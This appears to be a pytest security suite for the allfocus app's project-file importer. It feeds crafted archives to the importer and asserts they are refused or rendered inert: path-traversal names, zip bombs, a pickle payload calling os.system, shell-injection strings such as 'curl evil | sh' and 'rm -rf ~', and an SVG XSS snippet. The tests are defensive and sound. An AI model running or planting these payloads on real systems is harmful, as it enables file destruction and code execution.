"""A project file from a stranger cannot write outside its folder, take the memory, or run anything."""

import copy
import hashlib
import io
import json
import os
import shutil
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("fastapi", reason="needs the extra web")

from PIL import Image

from allfocus.errors import AllfocusError, InputError
from allfocus.stack.options import FuseOptions
from allfocus.web import project_files, tasks
from allfocus.web.job_records import Frame, Job, KeptResult, Run
from allfocus.web.project_checks import open_project_file
from allfocus.web.projects import describe_job
from allfocus.web.stroke import Stroke

MEGABYTE = 2**20
RUN = "run-01234567"
OTHER = "run-89abcdef"


def quiet(_: Any) -> None:
    """For tasks that tell how far they are."""


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory, small_stack: list[Any]) -> bytes:
    """A project that nobody has tampered with: three frames, two results with maps, strokes in both."""
    place = tmp_path_factory.mktemp("honest")
    (place / "job" / "frames").mkdir(parents=True)
    frames = []
    for number, pixels in enumerate(small_stack):
        own = f"{number:012x}"
        Image.fromarray(np.rint(pixels * 255).astype(np.uint8)).save(place / "job/frames" / own, "PNG")
        size = (place / "job/frames" / own).stat().st_size
        frames.append(Frame(own, f"{number}.png", pixels.shape[1], pixels.shape[0], 3, 8, size))
    options = FuseOptions(method="depth-map", bit_depth=16, compression="none")
    paths = [str(place / "job/frames" / frame.id) for frame in frames]
    names = [frame.name for frame in frames]
    values = tasks.fuse_job(
        paths, names, str(place / "job" / RUN), str(place / "layers"), options=options.settings(), tell=quiet
    )
    values |= {"frames": [frame.id for frame in frames], "names": names, "left_out": {}}
    del values["sources"]
    run = Run(folder=RUN, method="depth-map", bit_depth=8, has_report=True, bytes=1, first_revision=1, **values)
    strokes = [Stroke("a" * 12, f"frame-{frames[0].id}", [[5.0, 5.0], [20.0, 9.0]], 4.0, 0.5)] * 2
    shutil.copytree(place / "job" / RUN, place / "job" / OTHER)
    # What was painted into the other result came from the open one.
    beside = KeptResult(replace(run, folder=OTHER), strokes=[replace(strokes[0], source=RUN)])
    job = Job(
        *("0" * 24, "honest", 1.0, 1.0, "done"),
        **{"frames": frames, "options": options, "run": run, "strokes": strokes, "others": [beside]},
    )
    described = {
        frame.id: {"file": path, "embedded": True, "path": None} for frame, path in zip(frames, paths, strict=True)
    }
    project_files.pack_project(str(place / "p.allfocus"), describe_job(job), str(place / "job"), described, tell=quiet)
    return (place / "p.allfocus").read_bytes()


@pytest.fixture
def open_it(tmp_path: Path) -> Callable[..., dict[str, Any]]:
    """Opens a project; whatever comes of it, nothing lies outside its folder."""

    def open_bytes(content: bytes, **limits: int) -> dict[str, Any]:
        shutil.rmtree(tmp_path / "into", ignore_errors=True)
        (tmp_path / "p.allfocus").write_bytes(content)
        before = set(tmp_path.rglob("*"))
        try:
            return open_project_file(
                str(tmp_path / "p.allfocus"),
                str(tmp_path / "into" / "project"),
                **{"max_bytes": 50 * MEGABYTE, "max_pixels": 10**6, "max_frames": 10, **limits},
                tell=quiet,
            )
        finally:
            new = set(tmp_path.rglob("*")) - before
            assert all(tmp_path / "into" in (path, *path.parents) for path in new)
            assert not any(path.is_symlink() for path in new)

    return open_bytes


def read(content: bytes) -> tuple[dict[str, Any], dict[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return json.loads(entries.pop("project.json")), entries


def write(manifest: Any, entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        archive.writestr("project.json", manifest if isinstance(manifest, str | bytes) else json.dumps(manifest))
        for name, data in entries.items():
            archive.writestr(name, data)
    return file.getvalue()


def replaced(honest: bytes, ending: str, data: bytes) -> bytes:
    """The project with another content of one of its files, with the right hash and size."""
    manifest, entries = read(honest)
    name = next(name for name in manifest["files"] if name.endswith(ending))
    old, new = manifest["files"][name]["sha256"], hashlib.sha256(data).hexdigest()
    entries[f"results/{new}"] = data
    manifest["files"][name] = {"sha256": new, "bytes": len(data)}
    if old not in [record["sha256"] for record in manifest["files"].values()]:
        del entries[f"results/{old}"]
    return write(manifest, entries)


def test_an_honest_project_opens(honest, open_it):
    opened = open_it(honest)
    assert opened["job"]["name"] == "honest"
    assert not opened["job"]["run"]["has_report"]
    manifest, entries = read(honest)
    # Zipped anew by the helper of these tests: so what they change is all that is wrong.
    assert open_it(write(manifest, entries))["job"]["run"] == opened["job"]["run"]


# --- the zip ---

NAMES = [
    "../evil", "/etc/evil", "results/../../evil", "frames/..", "C:\\evil", "results\\..\\evil", "evil.py", "results/",
    "results/" + "g" * 64, "frames/" + "0" * 64 + "/x", "PROJECT.JSON", "results/" + "0" * 63 + "\n", "a" * 60_000,
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_no_name_in_the_zip_is_taken(honest, open_it, name):
    manifest, entries = read(honest)
    with pytest.raises(InputError) as caught:
        open_it(write(manifest, {**entries, name: b"evil"}))
    assert caught.value.code == "bad-project"


@pytest.mark.parametrize(
    "name",
    ["../evil.json", "/tmp/evil.json", "run-01234567/../../evil.json", "run-01234567/alternatives/../level0.npy",
     "run-01234567/alternatives/x\x00/level0.npy", "run-01234567/report.html", "job.json", "frames/000000000000",
     "thumbnails/000000000000.jpg", "layers/run-01234567/result/level0.npy", "run-01234567/.x.01234567.part", ""],
)  # fmt: skip
def test_no_name_in_the_manifest_leads_elsewhere(honest, open_it, name):
    manifest, entries = read(honest)
    manifest["files"][name] = next(iter(manifest["files"].values()))
    with pytest.raises(InputError, match="no project has"):
        open_it(write(manifest, entries))


@pytest.mark.parametrize("own", ["../../evil", "00", "0" * 13, "ABCDEF012345", "..%2f..%2fxxx", ""])
def test_no_id_of_a_frame_becomes_a_path(honest, open_it, own):
    manifest, entries = read(honest)
    frame = manifest["job"]["frames"][0]
    manifest["frames"][own] = manifest["frames"].pop(frame["id"])
    frame["id"] = own
    with pytest.raises(InputError):
        open_it(write(manifest, entries))


def test_links_and_folders_in_the_zip_are_refused(honest, open_it):
    manifest, entries = read(honest)
    for kind in (0o120777, 0o040755, 0o060600, 0o010644):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("project.json", json.dumps(manifest))
            for place, (name, data) in enumerate(entries.items()):
                info = zipfile.ZipInfo(name)
                info.external_attr = (kind if place == 0 else 0o100644) << 16
                archive.writestr(info, data)
        with pytest.raises(InputError, match="link or no plain file"):
            open_it(file.getvalue())


def test_a_name_that_comes_twice_is_refused(honest, open_it):
    manifest, entries = read(honest)
    for name in ("project.json", next(iter(entries))):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("project.json", json.dumps(manifest))
            for own, data in entries.items():
                archive.writestr(own, data)
            with pytest.warns(UserWarning, match="Duplicate"):
                archive.writestr(name, b"{}")
        with pytest.raises(InputError, match="twice"):
            open_it(file.getvalue())


def test_what_is_packed_cannot_swell_because_nothing_packed_is_taken(honest, open_it):
    manifest, entries = read(honest)
    zeros = bytes(30 * MEGABYTE)
    name = f"results/{hashlib.sha256(zeros).hexdigest()}"
    for kind in (zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        bomb = write(manifest, {**entries, name: zeros}, kind)
        assert len(bomb) < MEGABYTE
        with pytest.raises(InputError, match="packed or encrypted"):
            open_it(bomb)


def test_files_that_share_their_bytes_cannot_promise_more_than_there_is(honest, open_it):
    """Entries that all point at one local header: 40 times a megabyte out of one."""
    manifest, entries = read(honest)
    data = os.urandom(MEGABYTE)
    digests = [hashlib.sha256(data).hexdigest()] + [f"{number:064x}" for number in range(40)]
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        archive.writestr(f"results/{digests[0]}", data)
        shared = archive.getinfo(f"results/{digests[0]}")
        for number, digest in enumerate(digests[1:]):
            manifest["files"][f"{RUN}/alternatives/x{number}/level0.npy"] = {"sha256": digest, "bytes": MEGABYTE}
            twin = copy.copy(shared)
            twin.filename = twin.orig_filename = f"results/{digest}"
            archive.filelist.append(twin)
        manifest["files"][f"{RUN}/alternatives/x/level0.npy"] = {"sha256": digests[0], "bytes": MEGABYTE}
        archive.writestr("project.json", json.dumps(manifest))
    with pytest.raises(InputError, match="promises more than it holds"):
        open_it(file.getvalue())


def test_a_project_larger_than_the_room_is_refused_before_a_byte_is_written(honest, open_it, tmp_path):
    with pytest.raises(InputError) as caught:
        open_it(honest, max_bytes=1000)
    assert caught.value.code == "too-many-bytes"
    assert not (tmp_path / "into").exists()


def test_one_file_under_many_names_counts_as_often_as_it_is_written(honest, open_it):
    manifest, entries = read(honest)
    record = manifest["files"][f"{RUN}/result.tif"]
    for number in range(2000):
        manifest["files"][f"{RUN}/alternatives/m{number}/level0.npy"] = record
    with pytest.raises(InputError) as caught:
        open_it(write(manifest, entries))
    assert caught.value.code == "too-many-bytes"


def test_a_list_of_files_that_fills_the_memory_is_not_read(open_it):
    """A zip whose directory says that it takes 3 GB, and one that really has half a million entries."""
    lying = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 65535, 65535, 3_000_000_000, 0, 0)
    entry = b"PK\x01\x02" + bytes(42)
    real = entry * 500_000
    real += b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 65535, 65535, len(entry) * 500_000, 0, 0)
    for content in (lying, real):
        tracemalloc.start()
        with pytest.raises(InputError, match="list of files takes"):
            open_it(content)
        assert tracemalloc.get_traced_memory()[1] < len(content) + 5 * MEGABYTE
        tracemalloc.stop()


@pytest.mark.parametrize("share", [0, 10, 21, 1000, 0.2, 0.5, 0.9, 0.999])
def test_a_project_that_was_cut_short_is_refused(honest, open_it, share):
    with pytest.raises(InputError) as caught:
        open_it(honest[: int(share * len(honest)) if isinstance(share, float) else share])
    assert caught.value.code == "bad-project"


def test_any_changed_byte_is_found_or_harmless(honest, open_it):
    """Bytes all over the file are turned: nothing but our own errors comes out, and no picture is changed unseen."""
    known = open_it(honest)
    random = np.random.default_rng(5)
    for place in random.integers(0, len(honest), 60):
        spoiled = bytearray(honest)
        spoiled[place] ^= 1 << int(random.integers(8))
        try:
            opened = open_it(bytes(spoiled))
        except AllfocusError:
            continue
        assert opened["job"]["run"]["bytes"] == known["job"]["run"]["bytes"]


def test_a_file_with_another_hash_is_refused(honest, open_it):
    manifest, entries = read(honest)
    for name in list(entries)[:4]:
        with pytest.raises(InputError, match="hash"):
            open_it(write(manifest, {**entries, name: entries[name][:-1] + b"!"}))


@pytest.mark.parametrize("how", ["more", "fewer"])
def test_the_list_and_the_zip_hold_the_same(honest, open_it, how):
    manifest, entries = read(honest)
    if how == "more":
        entries[f"results/{'0' * 64}"] = b"stowaway"
    else:
        entries.pop(next(iter(entries)))
    with pytest.raises(InputError, match="does not fit"):
        open_it(write(manifest, entries))


# --- the manifest ---

TEXTS = {
    "no json": "hello", "a list": "[]", "null": "null", "a number": "7", "not text": b"\xff\xfe\x00",
    "nested": "[" * 200_000, "nested objects": '{"a":' * 100_000, "long number": '{"version": ' + "9" * 10_000 + "}",
    "empty": "", "other format": '{"format": "tar", "version": 1, "made_by": "", "job": {}, "files": {}, "frames": {}}',
    "no job": '{"format": "allfocus project", "version": 1, "made_by": "", "job": {}, "files": {}, "frames": {}}',
}  # fmt: skip


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_manifest_that_is_none_is_refused(open_it, text):
    with pytest.raises(InputError) as caught:
        open_it(write(text, {}))
    assert caught.value.code == "bad-project"


def test_a_huge_manifest_is_not_read(open_it):
    content = write(b" " * (project_files.LONGEST_MANIFEST + 1), {})
    tracemalloc.start()
    with pytest.raises(InputError, match="longer than"):
        open_it(content)
    assert tracemalloc.get_traced_memory()[1] < 5 * MEGABYTE + len(content)
    tracemalloc.stop()


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
@pytest.mark.parametrize("key", ['"white"', '"radius"', '"created"', '"hardness"'])
def test_numbers_that_json_does_not_have_are_refused(honest, open_it, key, value):
    manifest, entries = read(honest)
    text = json.dumps(manifest)
    place = text.index(key) + len(key) + 1
    end = min(found for mark in ",}" if (found := text.find(mark, place)) >= 0)
    with pytest.raises(InputError, match="no number of JSON"):
        open_it(write(text[:place] + value + text[end:], entries))


def test_a_key_that_comes_twice_is_refused(honest, open_it):
    manifest, entries = read(honest)
    text = json.dumps(manifest)
    with pytest.raises(InputError, match="comes twice"):
        open_it(write(text[:-1] + ', "job": {}}', entries))


def test_a_newer_format_says_so(honest, open_it):
    manifest, entries = read(honest)
    with pytest.raises(InputError, match="newer allfocus"):
        open_it(write({**manifest, "version": 2}, entries))


def change(manifest: dict[str, Any], path: str, value: Any) -> None:
    *way, last = [int(part) if part.isdecimal() and len(part) < 12 else part for part in path.split("/")]
    place: Any = manifest
    for part in way:
        place = place[part]
    place[last] = value


HOSTILE = {
    "foreign key of the manifest": ("stowaway", 1),
    "foreign key of the job": ("job/stowaway", 1),
    "foreign key of a frame": ("job/frames/0/command", "rm"),
    "foreign key of a stroke": ("job/strokes/0/run", "x"),
    "foreign key of an option": ("job/options/plugin", "evil"),
    "an option out of its range": ("job/options/prefer", "evil"),
    "a run of another folder": ("job/run/folder", "../../etc"),
    "a run without files": ("job/run/folder", "run-aaaaaaaa"),
    "a frame of a run that there is not": ("job/run/frames/0", "f" * 12),
    "a run of a huge size": ("job/run/width", 10**9),
    "a run of no size": ("job/run/height", 0),
    "a run of another size": ("job/run/width", 100),
    "a run with odd channels": ("job/run/channels", 4000),
    "a run with odd bits": ("job/run/working_depth", 8),
    "white that is black": ("job/run/white", 0),
    "a map that there is not": ("job/run/maps/0", "../../evil"),
    "names of other frames": ("job/run/names", []),
    "a frame of a huge size": ("job/frames/0/width", 10**12),
    "a frame of another size": ("job/frames/0/width", 64),
    "a frame of another kind": ("job/frames/0/bit_depth", 16),
    "two frames of one id": ("job/frames/1/id", "0" * 12),
    "a stroke from nowhere": ("job/strokes/0/source", "frame-ffffffffffff"),
    "a stroke from the result": ("job/strokes/0/source", "result"),
    "a stroke that never ends": ("job/strokes/0/points", [[1.0, 1.0]] * 30_000),
    "a stroke far away": ("job/strokes/0/points", [[1e300, 1.0]]),
    "a stroke of a huge brush": ("job/strokes/0/radius", 1e9),
    "a stroke without flow": ("job/strokes/0/flow", 0.0),
    "a stroke of endless flow": ("job/strokes/0/flow", 1e9),
    "a stroke of no tolerance": ("job/strokes/0/tolerance", -1.0),
    "a stroke of a pen of no kind": ("job/strokes/0/pen", "../tilt"),
    "a stroke with pressure and no pen": ("job/strokes/0/pressures", [0.5, 0.5]),
    "a stroke of endless pressure": ("job/strokes/0/pressures", [0.5] * 100_000),
    "a stroke of blinding gain": ("job/strokes/0/gain", 1e30),
    "strokes without a result": ("job/run", None),
    "a stroke undone from nowhere": ("job/undone", [
        {"id": "a" * 12, "source": "frame-ffffffffffff", "points": [[1.0, 1.0]], "radius": 3.0, "hardness": 1.0}]),
    "another method without a result": ("job/alternatives", [{"method": "average", "state": "done", "error": None}]),
    "another method of an odd name": ("job/alternatives", [{"method": "/../..", "state": "done", "error": None}]),
    "another method at work": ("job/alternatives", [{"method": "average", "state": "running", "error": None}]),
    "a stroke from nowhere in another result": ("job/others/0/strokes/0/source", "frame-ffffffffffff"),
    "a stroke from a result that there is not": ("job/others/0/strokes/0/source", "run-ffffffff"),
    "a stroke that never ends in another result": ("job/others/0/strokes/0/points", [[1.0, 1.0]] * 30_000),
    "a huge brush, undone, in another result": ("job/others/0/undone", [
        {"id": "a" * 12, "source": RUN, "points": [[1.0, 1.0]], "radius": 1e9, "hardness": 1.0}]),
    "another result of another folder": ("job/others/0/run/folder", "../../etc"),
    "another result without files": ("job/others/0/run/folder", "run-aaaaaaaa"),
    "two results in one folder": ("job/others/0/run/folder", RUN),
    "another result of another size": ("job/others/0/run/width", 100),
    "a slab of frames that there are not": ("job/others/0/run/slab", [1, 99]),
    "foreign key of another result": ("job/others/0/stowaway", 1),
    "foreign key of a finish": ("job/run/finish/script", "x"),
    "a finish out of its range": ("job/run/finish/exposure", 1e9),
    "a finish that turns for ever": ("job/run/finish/turns", 10**9),
    "a crop beyond the picture": ("job/run/finish/crop", {"left": 0, "top": 0, "width": 10**6, "height": 10**6}),
    "more spots than may be": ("job/run/finish/spots", [{"x": 1.0, "y": 1.0, "radius": 2.0}] * 201),
    "spots that take hours to heal": ("job/run/finish/spots", [{"x": 1.0, "y": 1.0, "radius": 300.0}] * 200),
    "a spot of another kind": ("job/run/finish/spots", [{"x": 1.0, "y": 1.0, "radius": 2.0, "url": "x"}]),
    "a scale bar of an odd colour": ("job/run/finish/scale_bar", {"pixel_size": 1.0, "colour": "<script>"}),
    "pixels of no size": ("job/frames/0/pixel_size", -1.0),
    "a state that there is not": ("job/state", "evil"),
    "a hash that is none": ("frames/000000000000/sha256", "../../evil"),
    "bytes below nothing": ("frames/000000000000/bytes", -1),
    "no frames": ("frames", {}),
}  # fmt: skip


@pytest.mark.parametrize(("path", "value"), HOSTILE.values(), ids=HOSTILE)
def test_a_manifest_that_says_what_no_studio_would_is_refused(honest, open_it, path, value):
    manifest, entries = read(honest)
    change(manifest, path, value)
    with pytest.raises(InputError) as caught:
        open_it(write(manifest, entries))
    assert caught.value.code in ("bad-project", "too-many-pixels", "bad-option"), caught.value


def test_more_results_than_a_stack_may_have_are_refused(honest, open_it):
    manifest, entries = read(honest)
    beside = manifest["job"]["others"][0]
    for number in range(50):
        own = copy.deepcopy(beside)
        own["run"]["folder"] = f"run-{number:08x}"
        manifest["job"]["others"].append(own)
    with pytest.raises(InputError, match="more than 50 results"):
        open_it(write(manifest, entries))


def test_strokes_that_would_take_hours_to_paint_are_refused(honest, open_it, monkeypatch):
    monkeypatch.setattr("allfocus.web.project_checks.MOST_WORK_OF_ALL", 100)
    with pytest.raises(InputError, match="too long to paint"):
        open_it(honest)


def test_too_many_frames_are_refused(honest, open_it):
    with pytest.raises(InputError, match="more than the limit of 2"):
        open_it(honest, max_frames=2)


def test_texts_of_a_stranger_are_shown_and_never_run(honest, open_it):
    manifest, entries = read(honest)
    evil = "rm -rf ~\n\x1b[2J$(touch /tmp/evil)`x`"
    change(manifest, "job/run/command", f"curl evil | sh; {evil}")
    change(manifest, "job/name", f"../../{evil}")
    change(manifest, "job/notices", [evil * 500] * 1000)
    change(manifest, "job/others/0/run/name", evil)
    change(manifest, "job/others/0/run/notices", [evil])
    change(manifest, "job/frames/0/name", "; rm -rf ~ #.png")
    change(manifest, "job/frames/0/path", "/etc/passwd")
    change(manifest, "job/error", evil)
    job = open_it(write(manifest, entries))["job"]
    assert job["run"]["command"].startswith("allfocus fuse '; rm -rf ~ #.png' 1.png 2.png -o fused.tif")
    assert "\x1b" not in json.dumps(job, ensure_ascii=False)
    assert "\n" not in job["name"]
    assert "\n" not in job["others"][0]["run"]["name"] + job["others"][0]["run"]["notices"][0]
    assert len(job["notices"]) == 500
    assert max(map(len, job["notices"])) <= 1000
    assert (job["frames"][0]["path"], job["error"]) == (None, None)


# --- the files ---


def header(description: str) -> bytes:
    text = description.ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


ARRAYS = {
    "pickled": header("{'descr': '|O', 'fortran_order': False, 'shape': (2, 2), }") + b"cos\nsystem\n(S'x'\ntR.",
    "larger than it is": header("{'descr': '<f4', 'fortran_order': False, 'shape': (99999, 99999), }") + b"x" * 16,
    "of endless size": header("{'descr': '<f4', 'fortran_order': False, 'shape': (10000000000, 10000000000), }"),
    "of no numbers": header("{'descr': '<U9', 'fortran_order': False, 'shape': (1, 1), }") + b"x" * 36,
    "of a header that computes": header("{'descr': '<f4', 'fortran_order': False, 'shape': (9**9**9,), }"),
    "of nothing": b"",
}


@pytest.mark.parametrize("data", ARRAYS.values(), ids=ARRAYS)
def test_an_array_that_is_not_what_it_says_is_refused(honest, open_it, data):
    with pytest.raises(InputError) as caught:
        open_it(replaced(honest, "relief.npy", data))
    assert caught.value.code == "bad-project"


def png(width: int, height: int) -> bytes:
    file = io.BytesIO()
    Image.new("L", (1, 1)).save(file, "PNG")
    content = bytearray(file.getvalue())
    content[16:24] = struct.pack(">LL", width, height)
    content[29:33] = struct.pack(">L", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


@pytest.mark.parametrize("data", [png(50_000, 50_000), png(64, 64), b"no picture", b"<svg onload=alert(1)>"])
def test_a_map_that_is_another_picture_is_refused(honest, open_it, data):
    with pytest.raises(InputError):
        open_it(replaced(honest, "decision.png", data))


@pytest.mark.parametrize(
    "data",
    [b"[" * 100_000, b'{"transforms": NaN}', b"{}", b'{"transforms": [[1e308]]}', b"7",
     b'{"transforms": [], "size": [96, 128], "brightness": [], "confidences": [], "model": "x", "reference": 0, '
     b'"registered": true, "warnings": [], "outliers": []}'],
)  # fmt: skip
def test_transforms_that_lead_nowhere_are_refused(honest, open_it, data):
    with pytest.raises(InputError) as caught:
        open_it(replaced(honest, "alignment.json", data))
    assert caught.value.code == "bad-project"
